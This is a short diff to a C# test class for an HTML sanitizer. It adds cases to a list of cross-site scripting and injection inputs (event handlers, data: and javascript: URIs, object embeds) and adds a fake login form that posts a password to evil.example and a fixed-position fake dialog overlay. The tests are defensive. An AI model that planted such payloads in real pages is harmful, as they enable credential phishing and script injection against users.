@@ -28,6 +28,8 @@ public class SafetyTests
     [InlineData("<object data=\"x.swf\"></object>", "<object")]
     [InlineData("text <b onmouseover=\"alert(1)\">bold</b>", "onmouseover")]
     [InlineData("![[Raw]]", "onclick")]
+    [InlineData("<form action=\"https://evil.example\"><input name=\"password\"><button>Log in</button></form>", "<form")]
+    [InlineData("<div style=\"position:fixed;top:0\">fake dialog</div>", "position")]
     [InlineData("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "data:image/svg")]
     [InlineData("<a href=\"data:text/html,<script>\">x</a>", "data:")]
     [InlineData("<a href=\" &#14; javascript:alert(1)\">x</a>", "javascript")]
